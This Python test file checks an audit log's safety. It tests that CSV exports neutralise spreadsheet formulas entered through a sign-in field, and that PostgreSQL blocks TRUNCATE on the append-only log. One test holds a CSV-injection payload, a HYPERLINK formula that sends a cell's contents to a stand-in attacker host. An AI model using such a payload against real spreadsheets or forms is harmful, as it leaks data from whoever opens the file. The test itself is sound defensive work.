"""Review (s8) of the audit log: CSV export safety and the database's append-only guard.

Each test began as a reviewer's strict xfail naming a defect, fixed the same session.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy import func, select, text

from multimail.errors import AuthenticationFailed
from multimail.services import accounts, audit, operators
from multimail.services.context import Services
from multimail.store.tables import audit_entries
from tests.conftest import BACKEND
from tests.integration.test_audit_log import agent, fill, run_cli

# What a spreadsheet (Excel, LibreOffice, Google Sheets) evaluates as a formula when a cell
# starts with it (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_export_neutralises_formulas_typed_by_an_anonymous_sign_in(
    services: Services, tmp_path: Path
) -> None:
    """Anyone can type a formula into the dashboard's sign-in email field; the failed attempt
    is audited with that text as the actor's name, and `multimail audit export --format csv`
    must not hand it to the compliance officer's spreadsheet as a live formula."""
    payload = '=HYPERLINK("https://evil.test/?leak="&A2,"Click for details")'
    with pytest.raises(AuthenticationFailed):
        operators.sign_in(services.db, email=payload, password="guess", client="198.51.100.7")
    out = tmp_path / "audit.csv"
    exported = run_cli(services, "export", "--format", "csv", "--output", str(out))
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    failed = [r for r in rows if r["action"] == "operator.sign_in_failed"]
    assert failed, "the failed sign-in was not exported"
    dangerous = {
        column: value
        for row in failed
        for column, value in row.items()
        if value and value.startswith(FORMULA_STARTS)
    }
    assert not dangerous, (
        "CSV cells start with a formula character and would be evaluated by a spreadsheet; "
        f"prefix them (e.g. with a single quote) or otherwise neutralise them: {dangerous}"
    )


@pytest.mark.skipif(BACKEND != "postgres", reason="the trigger guarding PostgreSQL is tested")
def test_postgres_refuses_truncate_of_the_audit_log(
    services: Services, boot: accounts.Bootstrap
) -> None:
    """SPEC §7: entries are never deleted (enforced in PostgreSQL by a trigger). TRUNCATE is a
    delete of every entry, and row-level DELETE triggers do not fire for it."""
    fill(services, agent(boot), n=5)
    before = audit.entry_count(services.db)
    error: Exception | None = None
    with services.db.engine.connect() as conn:
        tx = conn.begin()
        try:
            conn.execute(text("TRUNCATE audit_entries"))
            left = conn.execute(select(func.count()).select_from(audit_entries)).scalar_one()
        except Exception as exc:  # the expected refusal
            error = exc
            left = None
        finally:
            tx.rollback()  # never leave the log emptied, whatever happened
    assert audit.entry_count(services.db) == before
    assert error is not None and "append-only" in str(error), (
        f"TRUNCATE audit_entries was accepted (entries left in the transaction: {left}); "
        "add a BEFORE TRUNCATE ... FOR EACH STATEMENT trigger raising 'append-only'"
    )
